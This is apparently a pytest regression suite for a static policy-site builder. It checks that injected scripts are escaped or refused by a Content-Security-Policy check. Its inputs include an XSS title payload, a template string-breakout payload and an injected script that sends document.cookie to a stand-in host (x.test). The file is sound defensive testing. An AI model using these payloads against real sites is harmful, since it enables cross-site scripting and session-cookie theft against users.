"""No script reaches a published page unless the theme wrote it.

A policy title once closed ``<title>`` and opened a ``<script>`` that the page's own
Content-Security-Policy then allowed, since the policy hashed every inline script it
found. Now the title is text in ``<head>``, and the policy lists only the inline scripts
that the theme's templates write; a page holding any other is refused.
"""

from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import BARIATRIC_FIXTURE, copy_project
from policypress.render.csp import UnknownInlineScript, add_content_security_policy, known_scripts
from test_site_dir import _digest

HOSTILE_TITLE = 'Bariatric</title><script>alert(1)</script><meta http-equiv=\\"refresh\\" content=\\"0\\"'


def _build(root: Path) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-m", "policypress", "-f", str(root / "mkdocs.yml"), "build"]
    return subprocess.run(command, capture_output=True, text=True, check=False, cwd=root)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = copy_project(tmp_path_factory.mktemp("head") / "project", BARIATRIC_FIXTURE)
    policy = root / "policy" / "oh-cp-mp-37.yaml"
    text = policy.read_text(encoding="utf-8").replace("title: Bariatric Surgery", f'title: "{HOSTILE_TITLE}"')
    policy.write_text(text, encoding="utf-8")
    result = _build(root)
    assert result.returncode == 0, result.stderr
    return root / "site"


def test_a_hostile_title_is_text_in_head(hostile: Path) -> None:
    for page in ("policies/oh-cp-mp-37/index.html", "index.html", "codes/index.html"):
        html = (hostile / page).read_text(encoding="utf-8")
        assert "<script>alert" not in html and 'http-equiv="refresh"' not in html, page
    html = (hostile / "policies/oh-cp-mp-37/index.html").read_text(encoding="utf-8")
    title = re.search(r"<title>(.*?)</title>", html, re.DOTALL)
    assert title is not None and title.group(1).startswith("Clinical Policy: Bariatric&lt;/title&gt;&lt;script&gt;")


def test_the_policy_lists_only_the_themes_scripts(hostile: Path) -> None:
    html = (hostile / "policies/oh-cp-mp-37/index.html").read_text(encoding="utf-8")
    policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', html)
    assert policy is not None
    script_src = policy.group(1).split("script-src", 1)[1].split(";", 1)[0]
    inline = [m for m in re.finditer(r"<script>(.*?)</script>", html, re.DOTALL)]
    assert len(re.findall(r"'sha256-", script_src)) == len(inline) == 2


def _material_templates() -> list[str]:
    import material

    folder = Path(material.__file__).parent / "templates"
    return [path.read_text(encoding="utf-8") for path in sorted(folder.rglob("*.html"))]


def test_a_script_no_template_writes_is_refused(hostile: Path) -> None:
    known = known_scripts(_material_templates())
    html = (hostile / "policies/oh-cp-mp-37/index.html").read_text(encoding="utf-8")
    html = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", html)
    assert "Content-Security-Policy" in add_content_security_policy(html, known)
    injected = html.replace("<body", "<script>fetch('https://x.test/'+document.cookie)</script><body", 1)
    with pytest.raises(UnknownInlineScript):
        add_content_security_policy(injected, known)
    # a template's value cannot be stretched to carry code out of its string
    escaped = html.replace('__md_scope=new URL("../..",location)', '__md_scope=new URL("../.."+alert(1)+"",location)')
    assert escaped != html
    with pytest.raises(UnknownInlineScript):
        add_content_security_policy(escaped, known)


def test_a_page_with_a_stray_script_fails_the_build_and_site_stays(tmp_path: Path) -> None:
    root = copy_project(tmp_path / "project", BARIATRIC_FIXTURE)
    assert _build(root).returncode == 0
    before = _digest(root / "site")
    (root / "docs" / "notice.md").write_text("# Notice\n\n<script>alert(1)</script>\n", encoding="utf-8")
    result = _build(root)
    assert result.returncode == 1
    assert "notice.md: a page holds an inline script that the theme does not write" in result.stderr
    assert "Traceback" not in result.stderr
    assert _digest(root / "site") == before
